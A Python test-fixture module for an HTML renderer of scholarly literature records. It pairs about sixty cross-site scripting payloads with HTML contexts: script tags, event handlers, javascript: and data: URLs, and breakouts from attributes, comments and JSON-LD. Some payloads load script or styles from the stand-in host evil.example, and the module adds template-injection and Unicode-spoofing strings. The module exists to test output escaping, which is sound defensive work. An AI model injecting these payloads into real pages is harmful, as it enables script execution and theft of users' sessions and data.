"""The records, texts and pages that are shown, and what is done to break out of them."""

from __future__ import annotations

import pathlib

import attrs

import litrecord
from litrecord import Identifier, Indicator, Instance, Record, ScriptWidget

ROOT = pathlib.Path(__file__).parent.parent
SEED = litrecord.parse_record(ROOT / "tests" / "data" / "seed.txt")
COMPLETE = attrs.evolve(
    SEED,
    title="Two forms of hemifacial spasm: what patients report, and what helps them",
    authors=["Ada Example", "Bo Specimen", "Chidi Placeholder"],
)
CUT_TEXT = """pmid: 21496615
handle: 11573/406812 , 11584-235094
Twitching of one side of the face, known as hemifacial spasm, starts around the eye.
Diagnosis, Differential, Humans, Hemifacial Spasm
Diagnosis, Differential, Humans, Hemifacial Spasm
citations | 70 | |
influence | Top 10% | |
popularity | To"""

ATTACKS = (
    # what a careless writer would put the payload into, the payload
    ("<p>{}</p>", "<script>pwned=1</script>"),
    ("<p>{}</p>", "<ScRiPt src=//evil.example/a.js></sCrIpT>"),
    ("<p>{}</p>", "<script/x>alert(1)</script/x>"),
    ("<p>{}</p>", "<img src=x onerror=pwned=1>"),
    ("<p>{}</p>", "<img src=//evil.example/pixel.png>"),
    ("<p>{}</p>", "<image src=x onerror=alert(1)>"),
    ("<p>{}</p>", "<body onload=pwned=1>"),
    ("<p>{}</p>", "<svg onload=pwned=1>"),
    ("<p>{}</p>", "<svg><script>pwned=1</script></svg>"),
    ("<p>{}</p>", "<svg><style><img src=x onerror=pwned=1></style></svg>"),
    ("<p>{}</p>", "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>"),
    ("<p>{}</p>", "<math><mi><mglyph><style><img src=x onerror=pwned=1>"),
    ("<p>{}</p>", "<math href=javascript:pwned=1><mtext>press</mtext></math>"),
    ("<p>{}</p>", "<details open ontoggle=pwned=1>"),
    ("<p>{}</p>", "<input autofocus onfocus=pwned=1>"),
    ("<p>{}</p>", "<video><source onerror=pwned=1 src=x></video>"),
    ("<p>{}</p>", "<audio src=//evil.example/a.ogg autoplay>"),
    ("<p>{}</p>", "<iframe src=javascript:parent.pwned=1></iframe>"),
    ("<p>{}</p>", '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'),
    ("<p>{}</p>", "<object data=//evil.example/o></object><embed src=//evil.example/e>"),
    ("<p>{}</p>", "<base href=//evil.example/><img src=relative>"),
    ("<p>{}</p>", "<meta http-equiv=refresh content=0;url=//evil.example/refreshed>"),
    ("<p>{}</p>", "<link rel=stylesheet href=//evil.example/a.css>"),
    ("<p>{}</p>", "<link rel=prefetch href=//evil.example/ahead>"),
    ("<p>{}</p>", "<style>@import '//evil.example/a.css'; * { display: none }</style>"),
    ("<p>{}</p>", "<form action=//evil.example/f><button autofocus>Go</button></form>"),
    ("<p>{}</p>", "<form><button formaction=javascript:pwned=1>Go</button></form>"),
    ("<p>{}</p>", "<template shadowrootmode=open><img src=x onerror=pwned=1></template>"),
    ("<p>{}</p>", "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>"),
    ("<p>{}</p>", "<plaintext>"),
    ("<p>{}</p>", "<a href=javascript:pwned=1>press</a>"),
    ("<p>{}</p>", "<a href='data:text/html,<script>pwned=1</script>'>press</a>"),
    ("<p>{}</p>", "<a ping=//evil.example/ping href=#>press</a>"),
    ("<p>{}</p>", "</p></section></article></main><h1>Instead</h1>"),
    ("<td><p>{}</p>", "</td></tr></table><img src=x onerror=pwned=1>"),
    ("<svg><text>{}</text></svg>", "</text></svg><img src=x onerror=pwned=1>"),
    ('<a title="{}">a</a>', '" onmouseover="pwned=1" x="'),
    ('<p title="{}">a</p>', '"><img src=x onerror=pwned=1>'),
    ("<p title='{}'>a</p>", "' onclick='pwned=1"),
    ("<p title={}>a</p>", "x onclick=pwned=1"),
    ('<a href="{}">a</a>', "javascript:pwned=1"),
    ('<a href="{}">a</a>', "JaVaScRiPt:alert(1)//https://doi.org/"),
    ('<a href="{}">a</a>', "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ('<a href="{}">a</a>', "vbscript:msgbox(1)"),
    ('<a href="{}">a</a>', "&#106;avascript&colon;pwned=1"),
    ("<textarea>{}</textarea>", "</textarea><img src=x onerror=pwned=1>"),
    ("<title>{}</title>", "</title><script>pwned=1</script>"),
    ("<style>p {{ color: {} }}</style>", "red }</style><script>pwned=1</script>"),
    ("<pre><code>{}</code></pre>", "</code></pre><script>document.title = 'taken'</script>"),
    ("<xmp>{}</xmp>", "</xmp><img src=x onerror=pwned=1>"),
    ("<!-- {} -->", "--><script>pwned=1</script><!--"),
    ("<!-- {} -->", "--!><img src=x onerror=pwned=1>"),
    ("<svg><![CDATA[{}]]></svg>", "]]></svg><script>pwned=1</script>"),
    ('<script type="application/ld+json">["{}"]</script>', "</script><script>pwned=1</script>"),
    ('<script type="application/ld+json">["{}"]</script>', "<!--<script>"),
    ('<script type="application/ld+json">["{}"]</script>', '"], {"@type": "Thing", "x": ["'),
    ("<script>const x = '{}';</script>", "'; pwned=1; '"),
    ("<p>{}</p>", "&lt;script&gt;pwned=1&lt;/script&gt; &amp;amp; &nbsp; &#60;b&#62; &copy &sect"),
)
"""Each breaks out of what it is put into, if nothing is escaped."""

ODDITIES = (
    "{{ constructor.constructor('pwned=1')() }} ${pwned=1} #{pwned=1} <%= pwned=1 %>",
    "safe \u202e gnp.exe \u2066 isolated \u202d over",
    "\x00\x01\x1b[31m null \ud800 surrogate \ufffe none \x7f",
    "line\u2028separator\u2029and\x85next",
    "long" * 150,
    "a\u0300\u0301\u0302" * 50,
    "\U000e0041\ufeff\u200b\u00ad invisible \u200d",
    "<" * 50 + ">" * 50 + "&" * 50 + '"' * 50 + "'" * 50,
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
)
"""Each is text that is easily shown as something else than it is."""

PAYLOADS = (*(payload for _, payload in ATTACKS), *ODDITIES)


def record_of(text: str) -> Record:
    """Return a record with a text in every field."""
    return Record(
        widget=ScriptWidget(f"<script>oa_widget</script>\n{text}\n"),
        identifiers=[
            Identifier("doi", f"10.1000/{text}"),
            Identifier("handle", f"1234/{text}"),
            Identifier("handle", text),
            Identifier("w3id", text),
            Identifier("urn", f"urn:nbn:{text}"),
            Identifier("purl", text),
            Identifier(f"x{text}", text),
        ],
        abstract=f"{text}\nBefore {text} behind",
        keywords=[text, f"Before {text} behind"],
        indicators=[
            Indicator("popularity", "Top 10%", text),
            Indicator(f"x{text}", text, text),
            Indicator("views", text),
        ],
        title=text,
        authors=[text, f"Before {text} behind"],
        instances=[
            Instance(
                hosted_by=text, type=text, refereed=text, license=text, collected_from=[text, text]
            )
        ],
    )


def text_of(text: str) -> str:
    """Return a page's text with a text in every kind of line."""
    return (
        f"<script>oa_widget {text}</script>\npmid: {text}\nhandle: 11573/406812 , {text}\n{text}\n"
        f"Before {text} behind, and more.\n{text}, Humans\n{text}, Humans\n"
        f"{text} | {text} | |\npopularity {text} | Top 10% | |\ncitations {text} | 7"
    )


LONG = attrs.evolve(
    COMPLETE,
    identifiers=[
        *COMPLETE.identifiers,
        Identifier("doi", f"10.1000/{'long' * 60}"),
        Identifier("doi", "not a DOI"),
        Identifier("orcid", "0000-0002-1825-0097"),
        Identifier("a scheme that nobody knows", "value"),
    ],
    keywords=[f"Keyword {number}" for number in range(100)] + ["long" * 60, "مرحبا بالعالم"],
    indicators=[
        *COMPLETE.indicators,
        Indicator("views", "1.2M"),
        Indicator("downloads", "about as many as there are leaves on the trees"),
        Indicator("long" * 60, "Top 0.01%", "long" * 200),
        Indicator("first", "Top 0.1%"),
        Indicator("second", "Top 1%"),
    ],
    authors=[f"Author {number}" for number in range(60)],
    instances=[
        Instance(hosted_by="ZENODO", type="Article", year=2021, refereed="Peer-reviewed"),
        Instance(hosted_by="long" * 60, license="long" * 60, collected_from=["long" * 60, "a"]),
        Instance(hosted_by="שלום עולם", collected_from=[f"Source {at}" for at in range(60)]),
    ],
    abstract=f"{COMPLETE.abstract}\nשלום עולם\n{'long' * 60}",
)
STRANGE = record_of('"><img src=x onerror=pwned=1> \u202e \U0001f9ec & ' + "long" * 60)

_HEAD = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>A page around it</title>
<style>
:root {{ color-scheme: light dark; }}
body {{
  margin: 0; padding: 1.5rem; font: 1rem/1.6 sans-serif; color: #1c2430; background: #fbfaf7;
}}
pre {{ white-space: pre-wrap; overflow-wrap: anywhere; }}
a {{ color: #1d4f91; }}
@media (prefers-color-scheme: dark) {{
  body {{ color: #e6e8eb; background: #14181f; }}
  a {{ color: #9cc3ff; }}
}}
{}</style>
</head>
<body>
<main>
{}
{}
</main>
</body>
</html>
"""


def page_around(fragment: str, heading: str = "<h1>A page around it</h1>", style: str = "") -> str:
    """Return a page with a fragment in it, and with a stylesheet of its own."""
    return _HEAD.format(style, heading, fragment)
